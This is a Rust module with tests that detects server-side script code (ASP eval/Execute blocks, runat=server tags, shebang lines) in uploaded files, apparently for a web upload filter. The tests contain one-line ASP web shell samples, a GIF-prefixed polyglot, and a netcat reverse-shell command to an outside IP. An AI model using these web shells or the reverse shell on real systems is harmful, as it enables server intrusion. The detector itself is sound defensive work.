//! Scripts in uploaded files that the file-content rules do not cover:
//! classic ASP and ASP.NET code blocks, server-side script tags, and
//! interpreter lines (`#!/bin/sh`) at the start of a file.

use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};

/// A script found in a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScriptHit {
    /// The rule id.
    pub rule: &'static str,
    /// The matched text (lossy UTF-8, at most 80 bytes).
    pub matched: String,
}

fn build(re: &str) -> Regex {
    RegexBuilder::new(re)
        .case_insensitive(true)
        .unicode(false)
        .size_limit(1 << 20)
        .build()
        .unwrap_or_else(|e| panic!("built-in upload regex {re:?}: {e}"))
}

static ASP: LazyLock<Regex> = LazyLock::new(|| {
    build(
        r#"<%[=@!]?\s*(?:eval|execute(?:global)?|response\.write|server\.(?:createobject|execute|mappath)|createobject|wscript\.shell|request(?:\.form|\.querystring)?\s*\()\b|<script[^>]{0,200}\brunat\s*=\s*["']?server\b"#,
    )
});

static SHEBANG: LazyLock<Regex> = LazyLock::new(|| {
    build(
        r"\A\s{0,16}#!\s*/[\w/.-]{0,64}?(?:env\s+)?(?:sh|bash|zsh|ksh|dash|perl|python[\d.]*|ruby|php|node)\b",
    )
});

/// The first script found in `bytes`. `at_start`: the bytes begin the file
/// (an interpreter line only counts there).
pub fn script(bytes: &[u8], at_start: bool) -> Option<ScriptHit> {
    let hit = |rule, m: regex::bytes::Match| ScriptHit {
        rule,
        matched: String::from_utf8_lossy(&m.as_bytes()[..m.len().min(80)]).into_owned(),
    };
    if at_start && let Some(m) = SHEBANG.find(bytes) {
        return Some(hit("upload-script-shebang", m));
    }
    ASP.find(bytes).map(|m| hit("upload-asp-code", m))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_scripts_and_leaves_images_alone() {
        let rule = |b: &[u8], s| script(b, s).map(|h| h.rule);
        assert_eq!(
            rule(b"<%eval request(\"x\")%>", true),
            Some("upload-asp-code")
        );
        assert_eq!(
            rule(b"GIF89a<% Execute(Request(\"c\")) %>", true),
            Some("upload-asp-code")
        );
        assert_eq!(
            rule(b"<script language=\"c#\" runat=\"server\">", true),
            Some("upload-asp-code")
        );
        assert_eq!(
            rule(b"#!/bin/sh\nnc -e /bin/sh 1.2.3.4 4444", true),
            Some("upload-script-shebang")
        );
        assert_eq!(
            rule(b"#!/usr/bin/env python3\nimport os", true),
            Some("upload-script-shebang")
        );
        assert_eq!(rule(b"#!/bin/sh\n", false), None);
        assert_eq!(rule(b"\x89PNG\r\n\x1a\n<%\x00\x01 50% off", true), None);
        assert_eq!(rule(b"a,b,c\n1,2,3\n", true), None);
    }
}
